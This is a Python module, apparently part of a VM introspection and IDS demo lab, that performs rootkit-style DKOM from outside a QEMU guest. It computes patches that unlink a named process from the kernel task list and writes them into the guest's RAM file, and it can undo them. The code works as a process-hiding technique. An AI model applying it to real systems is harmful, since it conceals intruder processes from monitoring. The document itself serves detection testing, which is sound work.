"""DKOM from outside, for the demo: the lab edits a guest's kernel objects in its RAM file.

An attack is prepared while the lab may still use QEMU's QMP (to find the objects and
their guest-physical homes) and carried out later by writing the RAM file alone, so it
can happen while the hypervisor service holds QMP and the IDS runs. Every patch keeps
the bytes it replaced, and :func:`undo` puts them back.
"""

from __future__ import annotations

import os
from dataclasses import dataclass

from sgmonitor.guest.qemu import QemuGuest
from sgmonitor.kernel.helpers.sched import for_each_process
from sgmonitor.traditional import open_guest_kernel

__all__ = ["Patch", "apply", "hide_process", "undo"]


@dataclass(frozen=True)
class Patch:
    """New bytes for the RAM file at ``offset``, and the bytes they replace."""

    offset: int
    new: bytes
    old: bytes


def hide_process(qmp_socket: str, comm: str) -> tuple[int, list[Patch]]:
    """The patches that unlink the first process called ``comm`` from the task list
    (its neighbours' ``tasks`` links pointed past it: a rootkit's ``list_del``), and its
    pid. The process keeps running, and /proc (the PID IDR) still lists it."""
    with QemuGuest(qmp_socket) as live, live.paused():
        kernel = open_guest_kernel(live)
        task = next(t for t in for_each_process(kernel) if t.comm.string_() == comm)
        prev, nxt = task.tasks.prev, task.tasks.next
        patches = []
        for field, value in ((prev.next, int(nxt)), (nxt.prev, int(prev))):
            gpa = kernel.memory.translate(field.address_)  # type: ignore[attr-defined]
            segment = next(s for s in live.segments if s.address <= gpa < s.end)
            offset = segment.file_offset + gpa - segment.address
            patches.append(Patch(offset, value.to_bytes(8, "little"), live.read_physical(gpa, 8)))
        return int(task.pid), patches


def _write(ram: str, patches: list[Patch], *, restore: bool) -> None:
    fd = os.open(ram, os.O_RDWR)
    try:
        for patch in patches:
            os.pwrite(fd, patch.old if restore else patch.new, patch.offset)
    finally:
        os.close(fd)


def apply(ram: str, patches: list[Patch]) -> None:
    """Carry the attack out (8-byte aligned writes: the guest sees each at once)."""
    _write(ram, patches, restore=False)


def undo(ram: str, patches: list[Patch]) -> None:
    """Put back what the attack replaced."""
    _write(ram, patches, restore=True)
